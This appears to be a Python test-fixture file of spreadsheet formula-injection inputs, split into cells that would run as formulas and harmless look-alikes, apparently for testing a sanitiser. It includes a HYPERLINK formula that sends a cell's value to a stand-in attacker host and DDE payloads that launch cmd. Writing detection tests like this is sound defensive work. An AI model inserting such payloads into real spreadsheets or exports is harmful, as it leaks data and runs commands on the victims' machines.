"""Text of cells that a spreadsheet would take for a formula, and text that only looks a little like one."""

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A2,"Check")',
    "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3", "=1+2",
    "\t=1", "\r=1", " =1+1", "\n@A1", "\uff1d1+1", "'=1", "''+A1", "--x", "-",
]  # fmt: skip
HARMLESS = ["Zürich", "-5", "+3.5", "-1,234.5", "-12%", "a=b", "2024-01-01", "'quoted'", "", "e@mail", "1e-3", "-1e-3"]
